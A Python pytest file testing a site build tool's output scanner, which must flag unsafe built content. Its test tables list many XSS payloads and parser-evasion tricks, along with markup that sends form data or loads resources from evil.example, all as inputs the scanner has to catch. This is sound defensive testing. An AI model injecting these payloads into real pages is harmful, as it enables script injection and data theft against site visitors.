"""The output scan: each unsafe thing a built page or file can carry, in a small hand-written site; the real
site passes; a build whose output fails the scan keeps the previous site."""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path

import pytest

from conftest import ROOT
from kc.build import build_site
from kc.cli import main
from kc.content.errors import BuildError
from kc.edition import csp
from kc.edition.outputscan import Sources, scan_site
from kc.edition.verify import write_manifest

POLICY = csp.meta_policy()
KC_JS = "window.kc = 1;\n"
HEAD = f'<!doctype html>\n<html><head><meta charset="utf-8">\n{csp.META_TAG}\n</head><body>\n'
INLINE = "console.log('theme');\n"
INLINE_PATH = f"assets/kc/inline/{hashlib.sha256(INLINE.encode()).hexdigest()[:20]}.js"


def _site(tmp_path: Path, body: str = "", page: str = "guide/index.html", files: dict | None = None) -> Path:
    """A site of one page (HEAD, our script on line 5, then `body` from line 6), plus `files`."""
    site = tmp_path / "site"
    sources = tmp_path / "src"
    content = {
        page: HEAD + '<script src="../assets/kc/kc.js"></script>\n' + body + "\n</body></html>\n",
        "assets/kc/kc.js": KC_JS,
        INLINE_PATH: INLINE,
        **(files or {}),
    }
    for rel, text in content.items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    (sources / "assets/kc").mkdir(parents=True)
    (sources / "assets/kc/kc.js").write_text(KC_JS, encoding="utf-8")
    return site


def _scan(site: Path, tmp_path: Path, docs: Path | None = None):
    return scan_site(site, Sources([tmp_path / "src"], docs), "/", POLICY)


def test_a_clean_site_passes(tmp_path):
    site = _site(tmp_path, f'<script src="../{INLINE_PATH}"></script>\n<a href="https://www.riksdagen.se/">SFS</a>'
                           '\n<script id="__config" type="application/json">{"a": "<b>"}</script>')
    assert _scan(site, tmp_path) == []


NOT_OURS = "<script src> that is not one of the site's own scripts"
OUTSIDE = "resource from outside the site in "
# (body written from line 6 of guide/index.html, start of the expected message). One row per rule and trick.
PAGES = [
    ("<script>alert(1)</script>", "inline <script>"),
    ('<script type="text/JavaScript ">alert(1)</script>', "inline <script>"),
    ('<script type="module">import x from "./x.js"</script>', "inline <script>"),
    ('<script type="importmap">{}</script>', "inline <script>"),
    ('<SCRIPT\tSRC="https://evil.example/x.js"></SCRIPT>', OUTSIDE + "<script src>"),
    ('<script src="//evil.example/x.js"></script>', OUTSIDE + "<script src>"),
    ('<script src="/\\evil.example/x.js"></script>', OUTSIDE + "<script src>"),
    ('<script/src="../assets/kc/missing.js"></script>', NOT_OURS),
    ('<script src="../../../../etc/x.js"></script>', NOT_OURS),
    ('<script src="../docs-copy.js"></script>', NOT_OURS),
    ('<img src="a.png" onerror="alert(1)">', "event-handler attribute onerror= on <img>"),
    ('<IMG SRC=a.png OnError=alert(1)>', "event-handler attribute onerror= on <img>"),
    ('<img src="a.png"\nonload=alert(1)>', "event-handler attribute onload= on <img>"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript: URL in <a xlink"),
    ('<svg onload="alert(1)"></svg>', "event-handler attribute onload= on <svg>"),
    ("<svg><script>alert(1)</script></svg>", "inline <script>"),
    ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "SVG animation of a link target"),
    ('<svg><animate attributeName="xlink:href" values="a;javascript:alert(1)"/></svg>', "SVG animation of"),
    ('<a href="javascript:alert(1)">x</a>', "javascript: URL in <a href>"),
    ('<a href="JaVa&#x09;Script&colon;alert(1)">x</a>', "javascript: URL in <a href>"),
    ('<a href="&#x20;&#x01;javascript:alert(1)">x</a>', "javascript: URL in <a href>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript: URL in <a href>"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URL in <a href>"),
    ('<a href="file:///etc/passwd">x</a>', "file: URL in <a href>"),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "data: URL in <img src>"),
    ('<img srcset="a.png 1x, data:image/png;base64,AAAA 2x">', "data: URL in <img srcset>"),
    ('<form action="https://evil.example/collect"><input></form>', "<form action> sends to outside the site"),
    ('<button formaction="//evil.example/">x</button>', "<button formaction> sends to outside the site"),
    ('<video poster="javascript:alert(1)"></video>', "javascript: URL in <video poster>"),
    ('<p style="background:url(https://evil.example/t.gif)">x</p>', OUTSIDE + "<p style"),
    ('<p style="background:u\\72l(javascript:alert(1))">x</p>', "javascript: URL in <p style url()>"),
    ("<style>@import 'https://evil.example/x.css';</style>", OUTSIDE + "<style url()>"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta> with a meta refresh"),
    ('<meta http-equiv=" Refresh " content="0">', "<meta> with a meta refresh"),
    ('<base href="https://evil.example/">', "<base> element"),
    ('<object data="x.swf"></object>', "<object> element"),
    ('<embed src="x.swf">', "<embed> element"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe> of a page outside the site"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe srcdoc>"),
    ('<link rel="stylesheet" href="https://cdn.example/x.css">', OUTSIDE + "<link href>"),
    ('<link rel="preload icon" href="//cdn.example/x.png">', OUTSIDE + "<link href>"),
    ('<img src="http://tracker.example/p.gif">', OUTSIDE + "<img src>"),
    ('<audio src="https://evil.example/a.mp3"></audio>', OUTSIDE + "<audio src>"),
    ('<source srcset="https://evil.example/a.webp">', OUTSIDE + "<source srcset>"),
    # Tokenizer differences that would hide markup from a naive parser: a browser runs all of these.
    ("<!--><script>alert(1)</script>-->", "inline <script>"),
    ("<!---><img src=a onerror=alert(1)>-->", "event-handler attribute onerror= on <img>"),
    ("<!-- x --!><img src=a onerror=alert(1)>-->", "event-handler attribute onerror= on <img>"),
    ('<script type="application/json">{}</script x><img src=a onerror=alert(1)>', "event-handler attribute"),
    ("<![CDATA[ > <img src=a onerror=alert(1)> ]]>", "event-handler attribute onerror= on <img>"),
    ("<svg><style><img src=a onerror=alert(1)></style></svg>", "event-handler attribute onerror= on <img>"),
    ("<math><style><img src=a onerror=alert(1)></style></math>", "event-handler attribute onerror= on <img>"),
    # html.parser ends a tag name at NUL and reads on as text; a browser reads NUL as U+FFFD in the name.
    ('<p\x00 onclick="alert(1)">x</p>', "event-handler attribute onclick= on <p\ufffd>"),
]


@pytest.mark.parametrize("body,message", PAGES, ids=[p[0][:40] for p in PAGES])
def test_unsafe_page_is_reported_with_file_and_line(tmp_path, body, message):
    site = _site(tmp_path, body)
    found = _scan(site, tmp_path)
    assert [(f.path, f.line) for f in found] == [("guide/index.html", 6)]
    assert found[0].message.startswith(message), found[0].message
    assert found[0].rule == "output-scan"


@pytest.mark.parametrize("body", [
    '<a href="https://www.riksdagen.se/x">ordinary outbound link</a>',
    '<a href="mailto:remiss@kunskapscentrum.example">mail</a>',
    '<link rel="canonical" href="https://kunskapscentrum.example/guide/">',
    '<img src="../assets/images/a.png" alt="">',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; is text</p>',
    '<p title="onclick=x">attribute values are text</p>',
    '<script id="__config" type="application/json">{"x": "</scrip"}</script>',
    # After a closed <svg/> or </svg>, <style> holds raw text again: the <img> is CSS text, not an element.
    '<svg/><style>a::after { content: "<img src=a onerror=x>" }</style>',
    '<svg></svg><style>a::after { content: "<img src=a onerror=x>" }</style>',
])
def test_harmless_markup_passes(tmp_path, body):
    assert _scan(_site(tmp_path, body), tmp_path) == []


def test_a_page_without_the_policy_is_reported(tmp_path):
    site = _site(tmp_path, files={"extra.html": "<html><body><p>copied from docs/</p></body></html>"})
    found = _scan(site, tmp_path)
    assert [(f.path, f.line) for f in found] == [("extra.html", 1)]
    assert "without the site's Content-Security-Policy" in found[0].message


def test_a_weakened_policy_is_reported(tmp_path):
    site = _site(tmp_path)
    page = site / "guide/index.html"
    page.write_text(page.read_text().replace("script-src 'self'", "script-src *"), encoding="utf-8")
    found = _scan(site, tmp_path)
    assert [(f.path, f.line) for f in found] == [("guide/index.html", 5)]
    assert found[0].message.startswith("<script> before the site's Content-Security-Policy")


def _docs(tmp_path: Path, files: dict[str, bytes]) -> Path:
    docs = tmp_path / "docs"
    for rel, data in files.items():
        (docs / rel).parent.mkdir(parents=True, exist_ok=True)
        (docs / rel).write_bytes(data)
    return docs


# (extra output file, its content, start of the expected message) at build time, where sources are known.
FILES = [
    ("notes.txt", b"text", "file of a type the site does not publish (.txt)"),
    ("page.htm", b"<script>x</script>", "file of a type the site does not publish (.htm)"),
    ("x/run", b"#!/bin/sh", "file of a type the site does not publish (no extension)"),
    ("guide/evil.js", b"alert(1)", ".js file that is not one of the theme's or kc's assets"),
    ("assets/kc/kc.css", b"body{}", ".css file that is not one of the theme's or kc's assets"),
    ("assets/kc/kc.js.map", b"{}", ".map file that is not one of the theme's or kc's assets"),
    (INLINE_PATH.replace(INLINE_PATH[-23:-3], "0" * 20), b"alert(1)", "moved inline script whose content"),
    ("assets/search/sv.js", b"alert(1);window.kcSearch={};", "search data that is not plain data"),
    ("en/assets/search/en-text-0.js",
     b'window.kcSearchText=window.kcSearchText||{};window.kcSearchText["en-0"]=alert(1);\n',
     "search data that is not plain data"),
    ("assets/search/sv-archived-text-12.js", b"alert(1)", "search data that is not plain data"),
    ("assets/search/sv-words.js", b"alert(1)", "search data that is not plain data"),
    ("en/assets/search/en-archived-full.js", b"alert(1)", "search data that is not plain data"),
    ("assets/search/sv-post-3.js", b'window.kcSearch["sv-post-3"]=alert(1);\n',
     "search data that is not plain data"),
    # Only the names the build writes count as search data: other names are unknown scripts.
    ("assets/search/sv-text.js", b"window.kcSearchText={};", ".js file that is not one of the theme's"),
    ("assets/search/sv-text-01.js", b"window.kcSearchText={};", ".js file that is not one of the theme's"),
    ("assets/search/sv-full-0.js", b"window.kcSearch={};", ".js file that is not one of the theme's"),
    ("assets/search/sv-archived-post-0.js", b"window.kcSearch={};", ".js file that is not one of the"),
    ("assets/search/sv-post-ab.js", b"window.kcSearch={};", ".js file that is not one of the theme's"),
    ("assets/search/sv-post-01.js", b"window.kcSearch={};", ".js file that is not one of the theme's"),
    ("guide/photo.png", b"\x89PNG changed", "file that is not a copy of a file under docs/"),
    ("api/v1/guidelines.json", b"alert(1)", "registry file that is not what the build writes"),
    ("api/v1/clauses.csv", b"\xff\xfe", "registry file that is not what the build writes"),
    ("en/api/v1/guidelines.json", b"{}", "file of a type the site does not publish (.json)"),
    ("api/v1/extra.json", b"{}", "file of a type the site does not publish (.json)"),
    # Objects are dropped as they are read (memory), but what is not JSON is still refused, wherever it is.
    ("api/v1/documents.json", b'{"a": [{"b": {"c": 1}}, {"d": alert(1)}]}', "registry file that is not"),
    ("api/v1/guidelines.schema.json", b'{"a": {"b": 1}} {"c": 2}', "registry file that is not"),
    ("assets/search/sv-words.js", b'window.kcSearch=window.kcSearch||{};window.kcSearch["sv-words"]='
     b'{"a": {"b": [1, {"c": x}]}};\n', "search data that is not plain data"),
]


@pytest.mark.parametrize("rel,data,message", FILES, ids=[f[0] for f in FILES])
def test_a_file_the_build_did_not_make_is_reported(tmp_path, rel, data, message):
    docs = _docs(tmp_path, {"sv/guide/photo.png": b"\x89PNG original"})
    site = _site(tmp_path, files={rel: data})
    found = _scan(site, tmp_path, docs)
    assert [(f.path, f.line) for f in found] == [(rel, 1)]
    assert found[0].message.startswith(message), found[0].message


def test_copies_of_sources_and_generated_files_pass(tmp_path):
    docs = _docs(tmp_path, {"sv/guide/photo.png": b"\x89PNG sv", "en/guide/photo.png": b"\x89PNG en",
                            "sv/guide/report.pdf": b"%PDF-1.7"})
    search = 'window.kcSearch=window.kcSearch||{};window.kcSearch["sv"]={"docs":[1,"<b>"]};\n'
    site = _site(tmp_path, files={
        "guide/photo.png": b"\x89PNG sv", "en/guide/photo.png": b"\x89PNG en",
        "en/guide/report.pdf": b"%PDF-1.7",  # the English site falls back to the Swedish file
        "assets/search/sv.js": search, "assets/search/sv-full.js": search.replace('"sv"', '"sv-full"'),
        "feed.xml": '<feed><link rel="self" href="https://k.example/"/></feed>',
        "sitemap.xml": "<urlset/>", "guidelines/housing/matrix-sv.csv": "a;b",
        "api/v1/guidelines.json": '{"guidelines": []}',
        "api/v1/clauses.csv": "guideline,title_sv\r\nRL,Ö < 1\r\n",
    })
    assert _scan(site, tmp_path, docs) == []


def test_svg_with_a_script_is_reported(tmp_path):
    site = _site(tmp_path, files={"guide/a.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n'
                                                 '<script href="../assets/kc/kc.js"/></svg>'})
    found = scan_site(site, None, "/", POLICY)
    assert [(f.path, f.line) for f in found] == [("guide/a.svg", 2)]
    assert found[0].message.startswith("<script> in an SVG image")


def test_svg_from_docs_may_be_rewritten_but_is_scanned(tmp_path):
    docs = _docs(tmp_path, {"sv/guide/a.svg": b'<svg onload="alert(1)"><circle r="1"/></svg>'})
    site = _site(tmp_path, files={"guide/a.svg": '<svg><circle r="1"/></svg>', "guide/b.svg": "<svg/>",
                                  "guide/c.svg": '<svg>\n<a href="javascript:alert(1)"/></svg>'})
    (tmp_path / "docs/sv/guide/c.svg").write_bytes(b"<svg/>")
    found = _scan(site, tmp_path, docs)
    assert [(f.path, f.line, f.message.split(":")[0]) for f in found] == [
        ("guide/b.svg", 1, "file that is not a copy of a file under docs/ or of the theme; the build did not "
                           "make it"),
        ("guide/c.svg", 2, "javascript"),
    ]


def test_feed_text_is_read_as_the_html_it_becomes(tmp_path):
    site = _site(tmp_path, files={"feed.xml": "<feed>\n<entry>\n<summary>&lt;img src=x onerror=alert(1)&gt;"
                                              "</summary></entry></feed>"})
    found = _scan(site, tmp_path)
    assert [(f.path, f.line) for f in found] == [("feed.xml", 3)]
    assert found[0].message.startswith("in the feed's text: event-handler attribute onerror=")


def test_links_and_special_files_are_reported_never_followed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN", encoding="utf-8")
    site = _site(tmp_path)
    (site / "env.html").symlink_to(secret)
    (site / "root").symlink_to("/")
    os.mkfifo(site / "pipe.png")
    found = _scan(site, tmp_path)
    assert [(f.path, f.message.split(";")[0]) for f in found] == [
        ("env.html", "symbolic link in the output"),
        ("pipe.png", "special file (device, FIFO or socket) in the output"),
        ("root", "symbolic link in the output"),
    ]


def test_edition_without_sources_checks_types_and_folders(tmp_path):
    site = _site(tmp_path, files={"assets/javascripts/bundle.js": "x", "guide/x.js": "alert(1)"})
    found = scan_site(site, None, "./")
    assert [(f.path, f.message.split(";")[0]) for f in found] == [
        ("guide/x.js", ".js file outside the theme's and kc's asset folders")]


def test_the_real_site_passes_and_the_scan_is_cheap(real_site):
    import time

    from mkdocs.config import load_config

    config = load_config(str(real_site.parent / "mkdocs.yml"))
    sources = Sources([Path(d) for d in config.theme.dirs] + [ROOT / "tools/kc"], real_site.parent / "docs")
    start = time.perf_counter()
    assert scan_site(real_site, sources, "/", POLICY) == []
    # About 0.3 s for the whole bilingual site on an idle machine; the bound only catches a runaway scan.
    assert time.perf_counter() - start < 20


def _snapshot(folder: Path) -> dict[str, bytes]:
    files = sorted(p for p in folder.rglob("*") if p.is_file())
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in files}


def test_a_build_failing_the_scan_keeps_the_previous_site(site_copy):
    root = site_copy("basic")
    build_site(root)  # the fixture site passes the scan
    before = _snapshot(root / "site")
    main_html = root / "overrides/main.html"
    hostile = '{% block extrahead %}<link rel="stylesheet" href="https://cdn.example/x.css">{% endblock %}'
    main_html.write_text(main_html.read_text(encoding="utf-8") + f"\n{hostile}\n", encoding="utf-8")
    with pytest.raises(BuildError) as caught:
        build_site(root)
    text = str(caught.value)
    assert text.startswith("the built site failed the output scan")
    located = r"^site/[\w/.-]+\.html:\d+ \(made from docs/(sv|en)/[\w/.-]+\.md\): "
    assert re.search(located + OUTSIDE, text, re.M)
    assert "more file(s) with the same problem" in text  # a template problem: a few examples, then a count
    assert _snapshot(root / "site") == before
    assert [p.name for p in root.iterdir() if p.name.startswith(".site")] == []


def test_kc_verify_reports_a_script_injected_into_an_edition(tmp_path, capsys):
    folder = tmp_path / "unpacked" / "kunskapscentrum-2026-11-24-abc1234"
    _site(folder.parent, files={"edition.json": "{}"}).rename(folder)
    page = folder / "guide/index.html"
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("<body>\n", '<body>\n<img src=x onerror="alert(1)">'), encoding="utf-8")
    write_manifest(folder)  # the forger rewrote the manifest: by integrity alone, all is well
    code = main(["--root", str(ROOT), "verify", "--integrity-only", str(folder)])
    out, err = capsys.readouterr()
    assert code == 1
    assert out.splitlines() == [
        "unsafe content: guide/index.html:5: event-handler attribute onerror= on <img>; scripts "
        "belong in the site's own assets, remove the attribute"
    ]
    assert "1 unsafe thing(s)" in err and "do not publish this edition" in err


def test_an_html_file_copied_from_docs_is_reported(tmp_path):
    copied = HEAD + "<p>a page written by hand</p>\n</body></html>\n"
    docs = _docs(tmp_path, {"sv/guide/raw.html": copied.encode()})
    site = _site(tmp_path, files={"guide/raw.html": copied})
    found = _scan(site, tmp_path, docs)
    assert [(f.path, f.line) for f in found] == [("guide/raw.html", 1)]
    assert found[0].message.startswith("HTML file copied unchanged from docs/")


@pytest.mark.parametrize("unit", ["<a", "<a b='", '<a b="', "<!--", "<![", "<a/", "< a"])
def test_a_pathological_page_is_scanned_in_bounded_time(tmp_path, unit):
    import time

    # Python 3.11's html.parser re-reads an unclosed tail once per '<': 120 kB of "<a b='" took 3 minutes.
    site = _site(tmp_path, files={"guide/big.html": HEAD + unit * 40000})
    start = time.perf_counter()
    found = _scan(site, tmp_path)
    assert time.perf_counter() - start < 10
    assert [f.path for f in found] == []


def test_markup_the_parser_cannot_follow_is_refused(tmp_path, monkeypatch):
    from kc.edition import htmlscan

    def choke(self, i):
        raise AssertionError("unknown status keyword")

    monkeypatch.setattr(htmlscan.PageScanner, "parse_pi", choke)
    found = _scan(_site(tmp_path, "<?php x ?>"), tmp_path)
    assert [(f.path, f.line) for f in found] == [("guide/index.html", 6)]
    assert found[0].message.startswith("markup the scan cannot read (unknown status keyword)")


def test_kc_verify_scans_the_zip_as_well(tmp_path, capsys):
    import zipfile

    folder = tmp_path / "kunskapscentrum-2026-11-24-abc1234"
    _site(tmp_path, files={"edition.json": "{}", "guide/x.js": "alert(1)"}).rename(folder)
    write_manifest(folder)
    archive = tmp_path / f"{folder.name}.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(p for p in folder.rglob("*") if p.is_file()):
            zf.write(path, f"{folder.name}/{path.relative_to(folder).as_posix()}")
    code = main(["--root", str(ROOT), "verify", "--integrity-only", str(archive)])
    out = capsys.readouterr().out
    assert code == 1
    assert out.splitlines() == ["unsafe content: guide/x.js:1: .js file outside the theme's and kc's asset "
                                "folders; scripts and styles come only from there"]


def test_sitemap_is_read_as_markup(tmp_path):
    sitemap = ('<urlset xmlns:xhtml="http://www.w3.org/1999/xhtml">\n<url><loc>https://k.example/</loc>\n'
               '<xhtml:link rel="alternate" href="https://k.example/en/"/>\n'
               '<xhtml:link rel="alternate" href="javascript:alert(1)"/></url></urlset>')
    found = _scan(_site(tmp_path, files={"sitemap.xml": sitemap}), tmp_path)
    assert [(f.path, f.line) for f in found] == [("sitemap.xml", 4)]
    assert found[0].message.startswith("javascript: URL in <xhtml:link href>")


def test_edition_files_beside_the_site_are_allowed_only_in_an_edition(tmp_path):
    extra = {"manifest.sha256": "x", "signature.json": "{}", "verify.ps1": "Get-FileHash",
             "LASMIG-README.txt": "x"}
    site = _site(tmp_path, files=extra)
    assert scan_site(site, None, "./") == []
    built = _scan(site, tmp_path)
    assert sorted(f.path for f in built) == sorted(extra)


def test_an_unreadable_folder_is_reported(tmp_path, monkeypatch):
    site = _site(tmp_path)
    (site / "locked").mkdir()
    (site / "locked/x.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    real_scandir = os.scandir

    def scandir(path="."):
        if Path(path).name == "locked":  # as for a folder without read permission (tests may run as root)
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    found = _scan(site, tmp_path)
    assert [(f.path, f.message.split(" (")[0]) for f in found] == [("locked", "folder that cannot be read")]


def test_kc_verify_says_the_scan_found_nothing_in_a_clean_edition(tmp_path, capsys):
    folder = tmp_path / "kunskapscentrum-2026-11-24-abc1234"
    _site(tmp_path, files={"edition.json": "{}"}).rename(folder)
    write_manifest(folder)
    code = main(["--root", str(ROOT), "verify", "--integrity-only", str(folder)])
    out, err = capsys.readouterr()
    assert (code, out) == (0, "")
    assert "output scan: no foreign scripts, event handlers, outside resources or unknown files" in err


def test_a_link_under_docs_vouches_for_nothing(tmp_path):
    secret = tmp_path / "environ.png"
    secret.write_bytes(b"CI_TOKEN=x")
    docs = _docs(tmp_path, {})
    (docs / "sv/guide").mkdir(parents=True)
    (docs / "sv/guide/env.png").symlink_to(secret)
    found = _scan(_site(tmp_path, files={"guide/env.png": b"CI_TOKEN=x"}), tmp_path, docs)
    assert [(f.path, f.message.split(";")[0]) for f in found] == [
        ("guide/env.png", "file that is not a copy of a file under docs/ or of the theme")]


@pytest.mark.parametrize("data", [
    "å".encode() * 5,  # with chunk=3, every two-byte letter is split between chunks somewhere
    "€😀a".encode() * 3,
    b"ok\xc3",  # cut short at the end
    b"a\xffb",
    b"\xed\xa0\x80",  # an encoded surrogate: not UTF-8
    b"",
])
def test_registry_text_is_checked_in_chunks_exactly_as_decoding_it_whole(data):
    from kc.edition.outputscan import _decodes

    try:
        data.decode("utf-8")
        whole = True
    except UnicodeDecodeError:
        whole = False
    for chunk in (1, 2, 3, 1 << 20):
        try:
            _decodes(data, chunk)
            chunked = True
        except UnicodeDecodeError:
            chunked = False
        assert chunked == whole, (data, chunk)


@pytest.mark.parametrize("text,ok", [
    ('{"guidelines": [{"id": "a", "n": [1, 2.5, null, true]}], "a": {"a": {}}}', True),
    ('[{"a": 1}, {"a": 1, "a": 2}]', True),
    ('{"a": 1,}', False),
    ('{"a": NaN}', True),  # json.loads accepts it; so did the check before
    ('{"a": 1} x', False),
    ("", False),
])
def test_registry_json_is_checked_as_json_loads_reads_it(text, ok):
    import json

    from kc.edition.outputscan import _parses

    try:
        json.loads(text)
        assert ok
    except ValueError:
        assert not ok
    if ok:
        _parses(text)
    else:
        with pytest.raises(ValueError):
            _parses(text)
